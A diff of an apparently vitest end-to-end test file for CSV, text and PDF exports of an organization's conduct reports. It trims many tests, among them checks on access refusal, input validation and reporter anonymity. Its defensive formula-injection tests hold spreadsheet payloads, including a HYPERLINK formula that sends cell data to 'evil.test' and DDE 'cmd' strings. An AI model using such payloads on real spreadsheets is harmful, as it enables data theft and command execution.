@@ -1,17 +1,20 @@
 import http from "node:http";
 import Papa from "papaparse";
-import { beforeAll, describe, expect, test } from "vitest";
+import { describe, expect, test } from "vitest";
 import type { Reply } from "#e2e/support/client.ts";
 import { extractPdfTexts } from "#e2e/support/pdf-text.ts";
 import { shareService } from "#e2e/support/service.ts";
 import { UNKNOWN_ID, summarizeResponse } from "#e2e/support/concurrent-requests.ts";
 import { TestWorld, type EventRef, type TestPerson, type PlaceRef } from "#e2e/support/world.ts";
 
-/** Exports of an organization's reports (contract 10.3). */
+/**
+ * Exports of an organization's reports (contract 10.3). The tests beside the code have their cells, lines and pages;
+ * what they hold of reporters is in leaks.test.ts.
+ */
 
 const heed = await shareService();
 const world = await TestWorld.build(heed);
-const { boris, foreignEvent, maya, nora, olga, omar, organization, sam, viktor } = world;
+const { boris, foreignEvent, maya, olga, omar, organization, sam, viktor } = world;
 
 const company = await world.newOrganization("Paper, Ink & Sons");
 const harbour = await world.newEvent(company, "Harbour Days");
@@ -144,62 +147,6 @@ describe("as CSV", () => {
     expect([await get(omar), await get(viktor)]).toEqual([200, 403]);
   });
 
-  test("any title is exported unchanged, except that no spreadsheet takes it for a formula", async () => {
-    const [own, event] = await elsewhere();
-    const FORMULAS = [
-      '=HYPERLINK("https://evil.test?x="&A1,"click")',
-      "+49 30 1234567 called",
-      "-2+3+cmd|' /C calc'!A0",
-      "@SUM(1+1)*cmd|' /C calc'!A0",
-      "\t=1+1 after a tab",
-      "\r=1+1 after a return",
-      '"=1+1 after a quote',
-      ",=1+1 after a comma",
-      ";=1+1 after a semicolon",
-      " =1+1 after a blank",
-      "\n=1+1 after a line break",
-      "＝1+1 in wide letters",
-    ];
-    const PLAIN = [
-      'He said "no", twice; and left',
-      "First line\nsecond line\r\nthird line",
-      "A comma, a semicolon; a tab\tand a | bar",
-      "😀 👩‍👩‍👧 emoji in a title",
-      "عنوان من اليمين إلى اليسار",
-      "שלום \u202eabc\u202c turned around",
-      "Ärger über Ölspur, naïve façade, 日本語",
-      'ends with a quote"',
-      "  blanks around it  ",
-      "1-2 and a=b inside",
-      "2026-01-01",
-    ];
-    await seed(event, ...[...FORMULAS, ...PLAIN].map((title) => ({ title })));
-    const titles = (await csv("timeRange=all", own)).map(({ title }) => title);
-    expect(titles.toSorted()).toEqual([...FORMULAS.map((title) => `'${title}`), ...PLAIN].toSorted());
-  });
-
-  test("the names of events and people are no formulas either", async () => {
-    const [own, event] = await elsewhere();
-    const person = await world.person("Plus");
-    await heed.sql("update users set name = '+cmd' where id = $1", [person.id]);
-    await heed.sql("update events set name = '=Far, \"Afield\"' where id = $1", [event.id]);
-    await seed(event, { title: "Assigned to a formula", assigned: person });
-    const [line] = await csv("timeRange=all", own);
-    expect([line?.event, line?.assignedTo]).toEqual(['\'=Far, "Afield"', "'+cmd"]);
-  });
-
-  test("it is RFC 4180 in UTF-8: lines end in CR LF, quotes are doubled", async () => {
-    const [own, event] = await elsewhere();
-    await seed(event, { title: 'A "quoted", 😀 title' });
-    const { bytes } = await take("format=csv", own);
-    const text = new TextDecoder("utf-8", { fatal: true, ignoreBOM: true }).decode(bytes);
-    const lines = text.split("\r\n");
-    expect(lines).toHaveLength(3);
-    expect([lines[0], lines[2]]).toEqual([COLUMNS.join(","), ""]);
-    expect(lines[1]).toMatch(/^[0-9a-f-]{36},"A ""quoted"", 😀 title",submitted,,Far Afield,,\d{4}-/u);
-    expect(text).not.toMatch(/[^\r]\n|\r[^\n]/);
-  });
-
   test("with labels it is for people: in their words, by the clock of the event or their own", async () => {
     const [own, event] = await elsewhere();
     await heed.sql("update events set time_zone = 'America/New_York' where id = $1", [event.id]);
@@ -241,9 +188,19 @@ describe("as CSV", () => {
     expect((await world.as(viktor).get(`${exporting(own)}?format=csv&labels=xx`)).status).toBe(400);
   });
 
-  test("without reports it is its header", async () => {
-    const [own] = await elsewhere();
+  test("names and titles are no formulas, and without reports it is its header", async () => {
+    const [own, event] = await elsewhere();
     expect((await take("format=csv", own)).text).toBe(`${COLUMNS.join(",")}\r\n`);
+    const person = await world.person("Plus");
+    await heed.sql("update users set name = '+cmd' where id = $1", [person.id]);
+    await heed.sql("update events set name = '=Far, \"Afield\"' where id = $1", [event.id]);
+    await seed(event, { title: '=HYPERLINK("https://evil.test"), 😀', assigned: person });
+    const [line] = await csv("timeRange=all", own);
+    expect([line?.title, line?.event, line?.assignedTo]).toEqual([
+      `'=HYPERLINK("https://evil.test"), 😀`,
+      `'=Far, "Afield"`,
+      "'+cmd",
+    ]);
   });
 
   // One batch exactly, and the first of a third.
@@ -305,18 +262,12 @@ describe("a filter", () => {
   };
   const CASES: [query: string, titles: (keyof typeof NUMBERS)[]][] = [
     ["", ["mill", "done", "open"]],
-    ["timeRange=30d", ["mill", "done", "open"]],
-    ["timeRange=90d", ["mill", "done", "open"]],
-    ["timeRange=1y", ["mill", "done", "open"]],
     ["timeRange=all", ["mill", "done", "open", "old"]],
-    [`timeRange=all&eventId=${harbour.id}`, ["done", "open", "old"]],
-    [`timeRange=all&eventId=${mill.id.toUpperCase()}`, ["mill"]],
-    ["timeRange=all&status=closed", ["old"]],
     ["status=closed", []],
-    ["severity=critical", ["mill", "done", "open"]],
-    [`severity=critical&eventId=${harbour.id}&status=resolved`, ["done"]],
+    [`severity=critical&eventId=${harbour.id.toUpperCase()}&status=resolved`, ["done"]],
   ];
 
+  // analytics.test.ts has the others.
   test.each(CASES)("%s holds for CSV, text and PDF", async (query, names) => {
     const wanted = names.map((name) => NUMBERS[name]);
     expect((await csv(query)).map(({ title }) => title)).toEqual(wanted);
@@ -330,26 +281,6 @@ describe("a filter", () => {
   /** Counts the audit entries of these people; jobs write others at any time. */
   const countAuditEntriesOf = (...people: TestPerson[]) =>
     heed.rows("audit_entries", "actor_id = any($1::uuid[])", [people.map(({ id }) => id)]);
-
-  test.each([
-    ["", "format"],
-    ["format=", "format"],
-    ["format=xlsx", "format"],
-    ["format=CSV", "format"],
-    ["format=csv&format=pdf", "format"],
-    ["format=csv&timeRange=7d", "timeRange"],
-    ["format=csv&status=open", "status"],
-    ["format=pdf&severity=urgent", "severity"],
-    ["format=pdf&eventId=harbour", "eventId"],
-  ])("that can't be used is refused: %s", async (query, field) => {
-    const audited = await countAuditEntriesOf(viktor);
-    for (const headers of [{}, { accept: "application/pdf" }]) {
-      const reply = await world.as(viktor).get(`${exporting(company)}?${query}`, { headers });
-      expect(summarizeResponse(reply)).toEqual([400, "VALIDATION_ERROR"]);
-      expect(reply.body.details).toMatch(new RegExp(`^${field}: `));
-    }
-    expect(await countAuditEntriesOf(viktor)).toBe(audited);
-  });
 
   test("by another organization's event is 404, and exports nothing", async () => {
     const audited = await countAuditEntriesOf(viktor, sam);
@@ -370,43 +301,20 @@ describe("a filter", () => {
   });
 });
 
-describe("as text", () => {
-  test("it is a readable report", async () => {
-    const { headers, text } = await take("format=pdf&timeRange=all");
-    expect(headers["content-type"]).toBe("text/plain; charset=utf-8");
-    const lines = text.split("\n");
-    expect(lines[0]).toBe("Conduct reports: Paper, Ink & Sons");
-    expect(text).toMatch(/^Event +All events$/m);
-    expect(text).toMatch(/^Reports +4$/m);
-    expect(text).toMatch(/^Open +2$/m);
-    expect(text).toMatch(/^ +Submitted +2 +50\.0%$/m);
-    expect(text).toMatch(/^ +Critical +3 +75\.0%$/m);
-    expect(text).toMatch(/^ +Harbour Days +3 +75\.0%$/m);
-    const [row] = await heed.sql("select id from incidents where title = 'Long ago and closed'");
-    expect(lines.at(-2)).toMatch(
-      /^3 Feb 2023, 04:05 UTC +Closed +Low +Harbour Days \| Long ago and closed \| /,
-    );
-    expect(lines.at(-2)).toContain(`Omar Haddad | http://localhost:${heed.port}/e/`);
-    expect(lines.at(-2)).toContain(row?.id);
-  });
-
-  test("a title stays on its line, without terminal control characters", async () => {
-    const [own, event] = await elsewhere();
-    await seed(event, { title: "One\r\nForged line\u001b[31m red \u202eturned" });
-    const { text } = await take("format=pdf", own);
-    expect(text).toContain(" | One Forged line [31m red turned | ");
-    // oxlint-disable-next-line no-control-regex
-    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
-  });
-
-  test.each(["*/*", "text/html", "text/plain", "application/json"])(
-    "it is the default for clients that don't accept PDF (Accept: %s)",
-    async (accept) => {
-      const ask = { headers: { accept } };
-      const reply = await world.as(viktor).get(`${exporting(company)}?format=pdf`, ask);
-      expect([reply.status, reply.headers["content-type"]]).toEqual([200, "text/plain; charset=utf-8"]);
-      expect(reply.text).toMatch(/^Conduct reports: /);
-    },
+test("as text, the default for clients that don't accept PDF, it is a readable report", async () => {
+  const ask = { headers: { accept: "text/html" } };
+  const { headers, text } = await world.as(viktor).get(`${exporting(company)}?format=pdf&timeRange=all`, ask);
+  expect(headers["content-type"]).toBe("text/plain; charset=utf-8");
+  const lines = text.split("\n");
+  expect(lines[0]).toBe("Conduct reports: Paper, Ink & Sons");
+  expect(text).toMatch(/^Reports +4$/m);
+  expect(text).toMatch(/^ +Harbour Days +3 +75\.0%$/m);
+  const [row] = await heed.sql("select id from incidents where title = 'Long ago and closed'");
+  expect(lines.at(-2)).toMatch(
+    /^3 Feb 2023, 04:05 UTC +Closed +Low +Harbour Days \| Long ago and closed \| /,
+  );
+  expect(lines.at(-2)).toContain(
+    `Omar Haddad | http://localhost:${heed.port}/e/${harbour.slug}/i/${row?.id}`,
   );
 });
 
@@ -420,15 +328,10 @@ describe("as a typeset PDF", () => {
     expect(reply.bytes.subarray(-8).toString()).toContain("%%EOF");
     return reply.bytes;
   };
-  let whole: Promise<Buffer>;
-  beforeAll(async () => {
-    whole = typeset("timeRange=all");
-    await whole;
-  });
   const says = (pdf: Buffer, phrase: string) => extractPdfTexts(pdf).some((text) => text.includes(phrase));
 
   test("it holds the numbers and the list", async () => {
-    const pdf = await whole;
+    const pdf = await typeset("timeRange=all");
     expect(pdf.toString("latin1").match(/\/Type \/Page\b(?!s)/g)).toHaveLength(2);
     for (const phrase of ["Paper, Ink & Sons", "Long ago and closed", "At the mill, and critical"])
       expect(says(pdf, phrase), phrase).toBe(true);
@@ -436,24 +339,12 @@ describe("as a typeset PDF", () => {
     expect(says(few, "At the mill, and critical")).toBe(true);
     expect(says(few, "Long ago and closed")).toBe(false);
   });
-
-  test("it names no reporter", async () => {
-    const all = extractPdfTexts(await whole).join("\n");
-    expect(all).toContain("Long ago and closed");
-    for (const one of [maya.id, maya.name, maya.email]) expect(all).not.toContain(one);
-  });
-
-  test("CSV stays CSV, whatever else is accepted", async () => {
-    const ask = { headers: { accept: "application/pdf" } };
-    const reply = await world.as(viktor).get(`${exporting(company)}?format=csv`, ask);
-    expect(reply.headers["content-type"]).toBe("text/csv; charset=utf-8");
-    expect(linesOf(reply.text)).toHaveLength(3);
-  });
 });
 
 describe("every export", () => {
   const KINDS = [
     ["csv", undefined, "text/csv; charset=utf-8", "csv"],
+    ["csv", "application/pdf", "text/csv; charset=utf-8", "csv"],
     ["pdf", undefined, "text/plain; charset=utf-8", "txt"],
     ["pdf", "application/pdf", "application/pdf", "pdf"],
   ] as const;
@@ -474,15 +365,11 @@ describe("every export", () => {
     expect(headers["content-security-policy"]).toContain("default-src 'none'");
   });
 
-  test.each(KINDS)("format=%s (Accept: %s) is in the audit log", async (format, accept) => {
+  test.each(["csv", "pdf"])("format=%s is in the audit log", async (format) => {
     const [own, event] = await elsewhere();
     const query = `format=${format}&timeRange=90d&eventId=${event.id}&status=closed&severity=low`;
-    // Typesetting takes a second; who may read is settled before the format.
-    const readers = accept ? [olga] : [viktor, olga, sam];
-    for (const person of readers)
-      expect((await world.as(person).get(`${exporting(own)}?${query}`, { headers: { accept } })).status).toBe(
-        200,
-      );
+    const readers = [viktor, olga, sam];
+    for (const person of readers) await take(query, own, person);
     const entries = await heed.sql(
       "select actor_id, action, object_type, object_id, event_id, by_right, data from audit_entries where chain = $1 order by seq",
       [own.id],
@@ -502,36 +389,5 @@ describe("every export", () => {
       data: { format, timeRange: "90d", eventId: event.id, status: "closed", severity: "low" },
     });
     expect(entries).toEqual(readers.map(entry));
-  });
-
-  test("as CSV or text names no reporter", async () => {
-    for (const format of ["csv", "pdf"]) {
-      const { text } = await take(`format=${format}&timeRange=all`);
-      expect(text).toContain("Long ago and closed");
-      for (const one of [maya.id, maya.name, maya.email]) expect(text).not.toContain(one);
-    }
-  });
-
-  test("is for members, and refused before its query is parsed", async () => {
-    for (const query of ["format=csv", "format=xlsx", `format=csv&eventId=${UNKNOWN_ID}`]) {
-      expect(summarizeResponse(await world.nobody.get(`${exporting(company)}?${query}`))).toEqual([
-        401,
-        "UNAUTHENTICATED",
-      ]);
-      // omar is assigned to a report in it; that makes him no member.
-      for (const person of [nora, omar, world.bruno])
-        expect(summarizeResponse(await world.as(person).get(`${exporting(company)}?${query}`))).toEqual([
-          403,
-          "FORBIDDEN",
-        ]);
-    }
-  });
-
-  test("has the same rows by slug", async () => {
-    const path = `/api/organizations/slug/${company.slug}/reports/export?format=csv&timeRange=all`;
-    const { status, text } = await world.as(viktor).get(path);
-    expect(status).toBe(200);
-    expect(text).toBe((await take("format=csv&timeRange=all")).text);
-    expect(linesOf(text)).toHaveLength(4);
   });
 });
